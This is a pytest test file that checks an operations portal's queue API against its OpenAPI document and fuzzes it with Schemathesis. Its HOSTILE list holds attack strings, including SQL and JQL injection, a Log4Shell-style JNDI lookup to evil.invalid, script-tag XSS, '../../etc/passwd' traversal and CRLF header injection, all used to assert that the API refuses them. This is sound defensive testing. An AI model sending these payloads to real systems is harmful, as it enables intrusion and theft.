"""The API over the demo's eight queues: its numbers, its document, and what nobody thought of."""

import json
from collections.abc import Iterator
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
import schemathesis
from hypothesis import Phase, given, settings
from schemathesis import GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.core.result import Ok
from schemathesis.specs.openapi import checks

from dashboard.portal import Portal
from datasource.history.sqlite import SqliteHistory
from opsportal import wiring
from opsportal.backfill import rebuild
from opsportal.naming import Naming
from opsportal.report_json import queue_report
from opsportal.settings import load
from opsportal.trends import Trends
from servicelevel.snapshot import last_ended_day
from tests.factories import ms
from tests.fakes.api_answers import ApiAnswers
from tests.fakes.shared import MemoryCache, MemoryLeases
from tests.fakes.small_demo import NOON, settings_of, small_demo

HISTORY_DAYS = 5
SCHEMA_CHECKS = [
    checks.status_code_conformance,
    checks.content_type_conformance,
    checks.response_headers_conformance,
    checks.response_schema_conformance,
    checks.negative_data_rejection,
    checks.unsupported_method,
    not_a_server_error,
]
EXAMPLES = 20
FLEET = ("queues", "queues/overview", "at-risk", "trends", "teams")
OF_QUEUE = ("queues/{id}/data", "queues/{id}/tickets")


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
    """A portal that has read all eight queues and keeps their last days."""
    now = ms(NOON)
    folder = tmp_path_factory.mktemp("api")
    with small_demo() as demo:
        chosen = load(settings_of(demo), None)
        wired = wiring.build_cached(chosen, MemoryCache(), MemoryLeases(), now=lambda: now)
        history = SqliteHistory(folder / "history.db")
        for queue in wired.reports.policy.queues:
            assert wired.reports.refresh(queue.id)
        readings = [reading for queue in wired.reports.policy.queues if (reading := wired.reports.reading(queue.id))]
        last = last_ended_day(readings[0].queue.calendar, now)
        first = last - timedelta(days=HISTORY_DAYS - 1)
        rebuild(readings, wired.reports.policy.queues, history, first, last, engine_version="1", now=lambda: now)
        trends = Trends(history, lambda: wired.reports.policy, lambda: now)
        yield Portal(wired.reports, trends, chosen, wired.jira_url, lambda: now)


@pytest.fixture(scope="module")
def api(services: Portal) -> ApiAnswers:
    """The API over that portal."""
    return ApiAnswers(services)


def test_every_answer_about_every_queue_is_as_the_document_says(api: ApiAnswers, services: Portal) -> None:
    """Computed clocks, no hours, no data, targets of their own: all eight kinds of queue."""
    paths = [(path, path) for path in FLEET]
    paths += [(path, path.format(id=queue.id)) for path in OF_QUEUE for queue in services.policy.queues]

    assert len(services.policy.queues) == 8
    for path, address in paths:
        for query in ("", "?limit=500") if path.endswith("tickets") else ("",):
            assert api.document.departures(api.get(address + query), f"/{path}") == []
        assert api.document.departures(api.get(f"{address}.csv"), f"/{path}.csv") == []


def test_a_report_is_the_one_of_the_command(api: ApiAnswers, services: Portal) -> None:
    """Read anew from the same Jira, field by field but for age and revision."""
    fresh = wiring.build(services.settings, now=services.now)
    for queue_id in ("service-desk", "website", "people"):
        made = fresh.reports.queue(queue_id)
        told = json.loads(json.dumps(queue_report(made, Naming("names"), fresh.jira_url, services.now())))
        answer = api.json(f"queues/{queue_id}/data")
        for name in ("age_s", "revision"):
            del told[name], answer[name]
        assert answer == told


def test_history_has_its_days(api: ApiAnswers) -> None:
    """Of the measures asked for, with the gaps before it began told apart from those after."""
    told = api.json("trends?queue=service-desk&measure=score&measure=resolution")
    (queue,) = told["queues"]

    assert len(queue["points"]) == HISTORY_DAYS
    assert queue["gaps"] == []
    assert set(queue["points"][0]) == {
        "day", "source", "complete", "lacks", "redrawn", "definition_hash", "engine_version", "score", "contributions",
        "resolution",
    }  # fmt: skip
    promise = queue["points"][-1]["resolution"]
    assert promise["attainment"] == promise["met"] / (promise["met"] + promise["breached"])


HOSTILE = (
    "project = SD ORDER BY created",
    "') OR 1=1 --",
    '" OR assignee = currentUser()',
    "${jndi:ldap://evil.invalid/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "99999-12-31..99999-12-31",
    "0001-01-01..9999-12-31",
    "2026-11-01..",
    "-1",
    "1e308",
    "NaN",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: a=b",
    "\u202e\u2066",
    "\U0001f4a5" * 60,
    "x" * 3_000,
    "[]",
    "{}",
    "%",
    "%25%32%46",
)
PARAMETERS = (
    "period", "priority", "type", "analyst", "lens", "compare", "queue", "team", "due", "promise", "mark", "limit",
    "cursor", "from", "to", "measure", "scores", "jql", "__proto__",
)  # fmt: skip


def test_a_hostile_query_is_refused_in_words(api: ApiAnswers) -> None:
    """400 and nothing else, and every parameter is named."""
    for path in (*FLEET, *OF_QUEUE):
        address = path.format(id="service-desk")
        for value in HOSTILE:
            pairs = [f"{name}={quote(value, safe='')}" for name in PARAMETERS]
            answer = api.get(f"{address}?{'&'.join(pairs)}&{pairs[0]}")
            assert answer.status_code == 400, (address, value, answer.status_code)
            named = {error["parameter"] for error in answer.get_json(force=True)["errors"]}
            assert set(PARAMETERS) - named <= _read_later(path, value), (address, value)


def _read_later(path: str, value: str) -> set[str]:
    """Parameters that may hold any text; whether there is such a mark or cursor shows once all others are right."""
    fits = value.isprintable() and value.strip() and len(value) <= 200
    return {"mark", "cursor"} if fits and path == "queues/{id}/tickets" else set()


MANGLED = ("period=%F0%28%8C%28", "%FF=1", "=", "&=&", "period=%", "priority=%zz", ";", "a" * 5_000)


@pytest.mark.parametrize("raw", MANGLED)
def test_a_mangled_query_is_refused(api: ApiAnswers, raw: str) -> None:
    """Percent signs that lead nowhere, bytes that are no text, names that are none."""
    assert api.get(f"queues/service-desk/data?{raw}").status_code == 400


def test_a_hostile_id_is_not_found(api: ApiAnswers) -> None:
    """404 as a problem, also with slashes and dots written in percent."""
    for value in (*HOSTILE, "a/b", "service-desk/", "..", ".", "service-desk\n", "service-desk%2fdata"):
        for path in OF_QUEUE:
            answer = api.get(path.format(id=quote(value, safe="")))
            assert (answer.status_code, answer.mimetype) == (404, "application/problem+json"), value


@pytest.fixture(scope="module")
def operations(api: ApiAnswers) -> dict[str, Any]:
    """The operations of the document as Schemathesis reads it, asked in process."""
    schema = schemathesis.openapi.from_wsgi("/api/openapi.json", api.server)
    found = [result.ok() for result in schema.get_all_operations() if isinstance(result, Ok)]
    return {operation.label: operation for operation in found}


def test_schemathesis_knows_every_operation(operations: dict[str, Any], api: ApiAnswers) -> None:
    """So that what follows leaves none out; the document itself it reads and does not test."""
    assert {*operations, "GET /openapi.json"} == {f"GET {path}" for path in api.document.json["paths"]}


@pytest.mark.parametrize("path", [*FLEET, *OF_QUEUE])
@pytest.mark.parametrize("suffix", ["", ".csv"])
@pytest.mark.parametrize("mode", list(GenerationMode))
def test_nothing_is_outside_the_document(
    operations: dict[str, Any], path: str, suffix: str, mode: GenerationMode
) -> None:
    """Whatever fits the document or does not: no failure of ours, and every answer as it says."""
    operation = operations[f"GET /{path}{suffix}"]
    for fixed in [None, {"id": "service-desk"}] if path in OF_QUEUE else [None]:

        @given(case=operation.as_strategy(generation_mode=mode, path_parameters=fixed))
        @settings(max_examples=EXAMPLES, database=None, phases=[Phase.generate])
        def ask(case: Any) -> None:
            # In process nothing unpacks what is compressed.
            case.call_and_validate(checks=SCHEMA_CHECKS, headers={"Accept-Encoding": "identity"})

        ask()
